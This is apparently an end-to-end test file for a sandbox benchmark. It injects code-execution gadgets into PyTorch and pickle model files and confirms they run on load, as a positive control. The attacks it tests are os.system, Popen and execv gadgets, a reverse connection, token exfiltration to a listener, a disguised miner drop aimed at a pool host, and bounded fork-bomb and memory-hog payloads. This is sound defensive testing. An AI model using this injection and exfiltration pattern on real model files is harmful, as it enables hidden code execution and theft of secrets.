#!/usr/bin/python3
"""End-to-end tests of the model tooling: make_model.py, model_server.py, inject_pickle.py and the
exec payloads, run for real with Debian's python3 and torch (no sandbox: the attacks succeed here,
which is the positive control the harness compares sandboxes against).

Dangerous payloads run with small bounds. Each server start imports torch (~2 s idle), so the
whole file takes about a minute on an idle 2-core machine.
  /usr/bin/python3 test_models.py [-v] [-k PATTERN]
Scripts are found at their places in the repository (attacks/models, attacks/payloads,
harness/workload).
"""

import base64
import contextlib
import json
import os
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import unittest
import zipfile

REPO = os.path.abspath(os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", ".."))
SCRIPT_DIRS = {
    "make_model.py": os.path.join(REPO, "harness", "workload"),
    "inject_pickle.py": os.path.join(REPO, "attacks", "models"),
    "model_server.py": os.path.join(REPO, "harness", "workload"),
}
PAYLOADS = os.path.join(REPO, "attacks", "payloads")
sys.path.insert(0, os.path.join(REPO, "harness", "workload", "tests"))
from model_server_process import EVENT_TIMEOUT, PYTHON, Server, UnixHTTPConnection  # noqa: E402


def script(name):
    return os.path.join(SCRIPT_DIRS[name], name)


def wait_for_file(path, timeout=10):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if os.path.exists(path):
            return True
        time.sleep(0.05)
    return False


class ModelToolsTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.TemporaryDirectory(prefix="armorbench-models-")
        cls.model_dir = os.path.join(cls.tmp.name, "model")
        subprocess.run([PYTHON, script("make_model.py"), "--out", cls.model_dir, "--samples", "4"], check=True)
        with open(os.path.join(cls.model_dir, "expected.json")) as f:
            cls.expected = json.load(f)
        cls.config = os.path.join(cls.model_dir, "model.json")

    @classmethod
    def tearDownClass(cls):
        cls.tmp.cleanup()

    def setUp(self):
        self.work = tempfile.mkdtemp(dir=self.tmp.name)

    def path(self, name):
        return os.path.join(self.work, name)

    def model(self, name):
        return os.path.join(self.model_dir, name)

    def inject(self, fmt, gadget, *gadget_args):
        base = self.model("model.pt" if fmt == "pt" else "model.pkl")
        out = self.path("evil." + fmt)
        subprocess.run([PYTHON, script("inject_pickle.py"), "--base", base, "--out", out, "--format", fmt,
                        "--gadget", gadget, *gadget_args], check=True)
        return out

    def inject_payload(self, payload, params, fmt="pt"):
        return self.inject(fmt, "builtins.exec", "--source-file", os.path.join(PAYLOADS, payload),
                           "--params", json.dumps(params))

    @contextlib.contextmanager
    def serving(self, model, loader):
        """Start a server, require readiness and correct answers, then require a clean SIGTERM exit."""
        server = Server(self.work, model, self.config, loader)
        try:
            event = server.event()
            self.assertEqual(event and event.get("event"), "ready", server.stderr())
            self.assertEqual(event["loader"], loader)
            connection = UnixHTTPConnection(server.socket_path)
            self.assert_serves_correctly(connection)
            yield server, connection
            connection.close()
        finally:
            code = server.stop()
        self.assertEqual(code, 0, server.stderr())
        self.assertEqual(server.stdout_after_event, b"")
        self.assertFalse(os.path.exists(server.socket_path), "socket left behind")

    def assert_serves_correctly(self, connection):
        name = self.expected["model_name"]
        tolerance = self.expected["tolerance"]
        # Several requests on the one connection: keep-alive must hold.
        for row, want in zip(self.expected["inputs"], self.expected["outputs"]):
            status, body = connection.call("POST", f"/v2/models/{name}/infer", {
                "inputs": [{"name": "input-0", "shape": [1, len(row)], "datatype": "FP32", "data": row}]})
            self.assertEqual(status, 200, body)
            output = body["outputs"][0]
            self.assertEqual((output["name"], output["shape"]), ("output-0", [1, len(want)]))
            for got, expected in zip(output["data"], want):
                self.assertLessEqual(abs(got - expected), tolerance * (1 + abs(expected)))

    def assert_load_refused(self, model, loader, error_type):
        server = Server(self.work, model, self.config, loader)
        event = server.event()
        server.process.wait(timeout=30)  # exits by itself; a SIGTERM now would race its exit
        self.assertEqual(server.stop(), 3)
        self.assertEqual(event["event"], "load_failed")
        self.assertTrue(event["error"].startswith(error_type + ":"), event)

    # Benign models: every loader serves the same answers, and the protocol holds.

    def test_benign_models_serve_with_every_loader(self):
        for loader, file in (("torch", "model.pt"), ("torch-weights-only", "model.pt"),
                             ("safetensors", "model.safetensors"), ("pickle", "model.pkl")):
            with self.subTest(loader=loader), self.serving(self.model(file), loader):
                pass

    def test_protocol_routes_and_errors(self):
        name = self.expected["model_name"]
        with self.serving(self.model("model.safetensors"), "safetensors") as (server, connection):
            self.assertEqual(connection.call("GET", "/v2/health/live"), (200, {"live": True}))
            self.assertEqual(connection.call("GET", "/v2/health/ready"), (200, {"ready": True}))
            self.assertEqual(connection.call("GET", f"/v2/models/{name}/ready")[0], 200)
            status, metadata = connection.call("GET", f"/v2/models/{name}")
            self.assertEqual((status, metadata["platform"], metadata["inputs"][0]["shape"]), (200, "pytorch", [-1, 64]))
            self.assertEqual(connection.call("GET", "/v2/models/other/ready")[0], 404)
            self.assertEqual(connection.call("GET", "/elsewhere")[0], 404)
            self.assertEqual(connection.call("POST", f"/v2/models/{name}/infer", b"{not json")[0], 400)
            self.assertEqual(connection.call("POST", f"/v2/models/{name}/infer", {
                "inputs": [{"name": "input-0", "shape": [1, 3], "datatype": "FP32", "data": [1, 2, 3]}]})[0], 400)
            rows = self.expected["inputs"]
            status, body = connection.call("POST", f"/v2/models/{name}/infer", {"id": "batch", "inputs": [
                {"name": "input-0", "shape": [len(rows), 64], "datatype": "FP32", "data": sum(rows, [])}]})
            self.assertEqual((status, body["id"], body["outputs"][0]["shape"]), (200, "batch", [len(rows), 10]))

    def test_make_model_evidence(self):
        canary = bytes.fromhex(self.expected["canary_hex"])
        self.assertEqual(len(canary), 32)
        self.assertNotEqual(canary, bytes(32))
        for file in ("model.pt", "model.safetensors", "model.pkl"):
            with open(self.model(file), "rb") as f:
                self.assertIn(canary, f.read(), file)
        with open(self.config) as f:
            self.assertNotIn(self.expected["canary_hex"], f.read())

    # Injected torch zip files.

    def test_injected_pt_keeps_other_entries_identical(self):
        evil = self.inject("pt", "os.system", "--command", "true")
        with zipfile.ZipFile(self.model("model.pt")) as base, zipfile.ZipFile(evil) as injected:
            self.assertEqual(base.namelist(), injected.namelist())
            for name in base.namelist():
                if not name.endswith("/data.pkl"):
                    self.assertEqual(base.read(name), injected.read(name), name)

    def test_os_system_runs_on_torch_load_and_model_still_serves(self):
        marker = self.path("system.marker")
        # The command also prints to stdout: that must not reach the server's event channel.
        evil = self.inject("pt", "os.system", "--command", f"echo system-gadget > {marker}; echo noise")
        with self.serving(evil, "torch"):
            with open(marker) as f:
                self.assertEqual(f.read().strip(), "system-gadget")

    def test_weights_only_refuses_injected_model(self):
        marker = self.path("refused.marker")
        evil = self.inject("pt", "os.system", "--command", f"touch {marker}")
        self.assert_load_refused(evil, "torch-weights-only", "UnpicklingError")
        self.assertFalse(os.path.exists(marker))

    def test_popen_gadget(self):
        marker = self.path("popen.marker")
        # The child outlives the server (serving() checks stdout still reaches EOF) and is killed here.
        evil = self.inject("pt", "subprocess.Popen", "--argv", json.dumps(
            ["/bin/sh", "-c", f"echo $$ > {marker}.partial; mv {marker}.partial {marker}; exec sleep 60"]))
        with self.serving(evil, "torch"):
            self.assertTrue(wait_for_file(marker))
        with open(marker) as f:
            os.kill(int(f.read()), signal.SIGKILL)

    def test_execv_gadget_replaces_the_server(self):
        marker = self.path("execv.marker")
        evil = self.inject("pt", "os.execv", "--argv", json.dumps(["/bin/sh", "-c", f"echo $$ > {marker}; exit 7"]))
        server = Server(self.work, evil, self.config, "torch")
        # The event channel is close-on-exec: EOF arrives at the exec, before the new program ends.
        self.assertIsNone(server.event())
        server.process.wait(timeout=30)
        self.assertEqual(server.stop(), 7)
        with open(marker) as f:
            self.assertEqual(int(f.read()), server.process.pid)

    # Plain pickle files.

    def test_plain_pickle_payload_runs_and_model_serves(self):
        marker = self.path("pickle.marker")
        evil = self.inject_payload("write_marker.py", {"path": marker, "nonce": "n-pickle"}, fmt="pickle")
        with self.serving(evil, "pickle"):
            with open(marker) as f:
                self.assertEqual(f.read(), "n-pickle")

    def test_torch_load_of_plain_pickle_runs_payload_then_fails(self):
        # torch 1.13's legacy loader unpickles a "magic number" first: the payload has run by the
        # time it finds the file is not a torch file.
        marker = self.path("legacy.marker")
        evil = self.inject("pickle", "os.system", "--command", f"touch {marker}")
        self.assert_load_refused(evil, "torch", "RuntimeError")
        self.assertTrue(os.path.exists(marker))

    # builtins.exec payloads, all in-process.

    def test_write_marker_payload(self):
        marker = self.path("write.marker")
        evil = self.inject_payload("write_marker.py", {"path": marker, "nonce": "n-write"})
        with self.serving(evil, "torch"):
            with open(marker) as f:
                self.assertEqual(f.read(), "n-write")

    def test_payload_errors_do_not_stop_the_load(self):
        evil = self.inject_payload("write_marker.py", {"path": "/nonexistent-dir/marker", "nonce": "x"})
        with self.serving(evil, "torch") as (server, connection):
            pass
        self.assertIn("write_marker: FileNotFoundError", server.stderr())

    def listen(self):
        """A one-shot TCP listener on 127.0.0.1; returns (port, a function returning what it received)."""
        listener = socket.create_server(("127.0.0.1", 0))
        listener.settimeout(EVENT_TIMEOUT)
        received = []

        def accept():
            connection, _ = listener.accept()
            with listener, connection, connection.makefile("rb") as stream:
                received.append(stream.read())

        thread = threading.Thread(target=accept, daemon=True)
        thread.start()

        def result():
            thread.join(EVENT_TIMEOUT)
            return received[0] if received else None

        return listener.getsockname()[1], result

    def test_reverse_connect_payload(self):
        port, received = self.listen()
        evil = self.inject_payload("reverse_connect.py", {"host": "127.0.0.1", "port": port, "nonce": "n-beacon"})
        with self.serving(evil, "torch"):
            self.assertEqual(received(), b"n-beacon\n")

    def test_exfiltrate_secret_payload(self):
        port, received = self.listen()
        token_path = self.path("token")
        with open(token_path, "w") as f:
            f.write("eyJhbGciOi.secret-token\n")
        evil = self.inject_payload("exfiltrate_secret.py",
                                   {"secret_path": token_path, "host": "127.0.0.1", "port": port})
        with self.serving(evil, "torch"):
            self.assertEqual(received(), b"TOKEN eyJhbGciOi.secret-token\n")

    def test_drop_miner_payload(self):
        marker = self.path("miner.marker")
        miner = f"#!/bin/sh\necho \"$@\" > {marker}\n".encode()
        drop_path = self.path("cache/.x/kworkerd")
        evil = self.inject_payload("drop_miner.py", {
            "binary_b64": base64.b64encode(miner).decode(), "drop_path": drop_path, "host": "203.0.113.7",
            "port": 3333, "max_seconds": 2})
        with self.serving(evil, "torch"):
            self.assertTrue(wait_for_file(marker))
            self.assertEqual(os.stat(drop_path).st_mode & 0o777, 0o755)
        with open(marker) as f:
            self.assertEqual(f.read().split(),
                             ["--pool", "203.0.113.7:3333", "--user", "wallet.worker", "--max-seconds", "2"])

    def test_open_device_payload(self):
        paths = []
        for name, nonce in (("libcuda.so.1", "n-lib"), ("nvidia0", "n-dev")):
            paths.append(self.path(name))
            with open(paths[-1], "w") as f:
                f.write(nonce)
        marker = self.path("device.marker")
        evil = self.inject_payload("open_device.py", {"paths": paths + [self.path("absent")], "marker": marker})
        with self.serving(evil, "torch"):
            with open(marker) as f:
                report = json.load(f)
        self.assertEqual(report["read"], {paths[0]: "n-lib", paths[1]: "n-dev"})
        self.assertIn("FileNotFoundError", report["errors"][self.path("absent")])

    def test_fork_bomb_payload_is_bounded(self):
        marker = self.path("fork.marker")
        evil = self.inject_payload("fork_bomb.py", {"max_procs": 5, "hold_seconds": 1, "marker": marker})
        with self.serving(evil, "torch"):
            with open(marker) as f:
                self.assertEqual(json.load(f), {"forked": 5, "max_procs": 5, "stopped_by": None})

    def test_memory_hog_payload(self):
        marker = self.path("memory.marker")
        evil = self.inject_payload("memory_hog.py", {"bytes": 64 << 20, "hold_seconds": 1, "marker": marker})
        with self.serving(evil, "torch"):
            with open(marker) as f:
                report = json.load(f)
        self.assertEqual((report["peak_bytes"], report["state"]), (64 << 20, "holding"))


if __name__ == "__main__":
    if not os.access(PYTHON, os.X_OK):
        sys.exit(f"{PYTHON} not found: these tests need Debian's python3 with python3-torch")
    unittest.main()
